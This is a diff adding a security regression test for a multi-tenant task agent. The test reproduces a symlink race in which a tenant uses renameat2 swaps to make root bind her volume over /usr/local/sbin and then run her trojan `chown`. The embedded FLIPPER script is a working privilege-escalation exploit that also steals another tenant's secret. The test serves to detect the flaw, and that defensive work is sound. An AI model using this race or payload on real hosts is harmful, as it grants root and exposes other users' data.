@@ -1,0 +1,149 @@
+"""Review 59: a tenant with a persistent volume at a nested path (`disk(...)[v1:a/b]`)
+has root mount it over a directory of the host's in its task's namespace, and root then
+runs the tenant's program: root on the host.
+
+The slave keeps a sandbox root's (0700) while the task's first shell, as root, binds the
+volume at `SANDBOX/a/b`: so that "no process of the user can swap a place, or a
+directory on its way, for a symlink between this check and the bind" (slave.confine).
+But `SANDBOX/a` is the tenant's own directory (made for the volume's path, its user's),
+and a process of that user that was already in it -- another task of the tenant's, its
+working directory there since the sandbox's last run -- is not stopped by the sandbox's
+mode: it swaps `b` for a symlink and back, over and over. When `b` is a directory as the
+script checks it (`[ -d ]`, `realpath -e`) and a symlink as `mount` resolves it, root
+binds the volume over the symlink's target: here /usr/local/sbin, first on the PATH root's
+steps run with (task_env.ROOT_ENV). The next step, `chown` of the sandbox back to its
+user, is then the tenant's `chown`, from its volume, run as root. (On the way the slave,
+root, also `chmod`s through the same symlink while it makes the volume's place:
+`volumes.prepare` -> `sandbox.make_dir`, whose `os.chmod` follows links.)
+
+A real slave as root with task users, PID namespaces and cgroups (harness.shared_slave),
+its work dir under /var/lib (as the docs advise: a /tmp of each task's own). mallory's
+program writes, as root, a file in a directory only root may write, and copies alice's
+secret out of her sandbox. A race: the launch is tried again until it wins, 60 times at
+most (it won after 5, 38 and 13 launches in three runs here).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import functools
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from protocol.wire.messages import (
+    CheckpointResources,
+    CommandInfo,
+    RunTasks,
+    TaskInfo,
+    TaskState,
+)
+from protocol.wire.resources import Resources
+
+from harness.helpers import eventually
+from harness.shared_slave import ALICE, MALLORY, Shared, T, shared_slave
+
+pytestmark = pytest.mark.timeout(240)
+SECRET = "alice-secret-5e11"
+VOLUME = "disk(mallory,mallory)[v1:a/b]"
+TARGET = Path("/usr/local/sbin")  # first on root's PATH, and empty on most hosts
+TRIES = 60
+
+# mallory's long task: its program in her volume (hers to write, by its path), then, its
+# working directory in the other task's sandbox's `a`, `b` swapped with a symlink for ever
+FLIPPER = r"""
+import ctypes, os, sys, time
+volume, place, target, proof, alices = sys.argv[1:6]
+program = f'''#!/bin/sh
+echo "root? $(/usr/bin/id -u)" > {proof}
+/usr/bin/cat {alices} >> {proof}
+exec /usr/bin/chown "$@"
+'''
+with open(os.path.join(volume, "chown"), "w") as f:
+    f.write(program)
+os.chmod(os.path.join(volume, "chown"), 0o755)
+os.chdir(place)
+if not os.path.islink("c"):
+    os.symlink(target, "c")
+libc = ctypes.CDLL(None, use_errno=True)
+renameat2 = libc.renameat2
+AT_FDCWD, RENAME_EXCHANGE = -100, 2
+print("flipping", flush=True)
+while True:
+    renameat2(AT_FDCWD, b"b", AT_FDCWD, b"c", RENAME_EXCHANGE)
+"""
+
+
+def ended_since(s: Shared, before: int) -> bool:
+    """m2 (launched again) ended: any end after its first `before` states."""
+    return any(state.terminal for state in s.master.states(MALLORY, "m2")[before:])
+
+
+def output(s: Shared, task_id: str) -> str:
+    with contextlib.suppress(OSError):
+        return s.output(MALLORY, task_id)
+    return ""
+
+
+async def launch(s: Shared, task_id: str, command: str, volume: bool) -> None:
+    resources = Resources(cpus=0.1, mem=64)
+    if volume:
+        resources = resources + Resources({VOLUME: 16})
+    task = TaskInfo(
+        task_id=task_id,
+        slave_id=s.master.slave_id,
+        resources=resources,
+        command=CommandInfo(value=command),
+    )
+    run = RunTasks(framework_id=MALLORY, tasks=[task], principal="mallory")
+    await s.master.bus.publish(T.slave("slave", s.master.slave_id), run)
+
+
+async def test_a_tenant_cannot_have_root_bind_its_volume_over_the_hosts_path() -> None:
+    mode = stat.S_IMODE(os.stat(TARGET).st_mode)
+    try:
+        async with shared_slave(
+            isolation="cgroups",
+            base_in="/var/lib",
+            resources=Resources(cpus=4, mem=2048, disk=1024),
+        ) as s:
+            keep = CheckpointResources(
+                slave_id=s.master.slave_id, resources=Resources({VOLUME: 16})
+            )
+            await s.master.bus.publish(T.slave("slave", s.master.slave_id), keep)
+            await eventually(lambda: VOLUME in s.slave.resources.total.millis)
+            await s.master.run(
+                "alice", ALICE, "a1", 'echo "$S" > secret; exec sleep 300', env={"S": SECRET}
+            )
+            await s.master.reaches(ALICE, "a1", TaskState.RUNNING)
+            alices = s.sandbox(ALICE, "a1") / "secret"
+            await eventually(alices.exists)
+
+            await launch(s, "m2", "true", volume=True)  # (its sandbox and `a/b`: mallory's)
+            assert (await s.master.ends(MALLORY, "m2")).state == TaskState.FINISHED
+            volume = s.work / "volumes" / "roles" / "mallory" / "v1"
+            proof = s.work.parent / "proof"  # (root's directory: 0711)
+            flipper = s.work.parent / "flip.py"
+            flipper.write_text(FLIPPER)
+            os.chmod(flipper, 0o644)
+            place = s.sandbox(MALLORY, "m2") / "a"
+            args = f"{volume} {place} {TARGET} {proof} {alices}"
+            await launch(s, "m1", f"exec /usr/bin/python3 {flipper} {args}", volume=False)
+            await eventually(lambda: "flipping" in output(s, "m1"), timeout=30)
+
+            tries = 0
+            while tries < TRIES and not proof.exists():
+                tries += 1
+                before = len(s.master.states(MALLORY, "m2"))
+                await launch(s, "m2", "true", volume=True)
+                await eventually(functools.partial(ended_since, s, before), timeout=30)
+            took = proof.read_text() if proof.exists() else ""
+    finally:
+        with contextlib.suppress(OSError):
+            os.chmod(TARGET, mode)  # (the slave's chmod through the link, undone)
+    assert not took, (
+        f"after {tries} launches of m2, root ran mallory's `chown` from her volume, bound "
+        f"over {TARGET}; it wrote into a root-only directory: {took!r}"
+    )
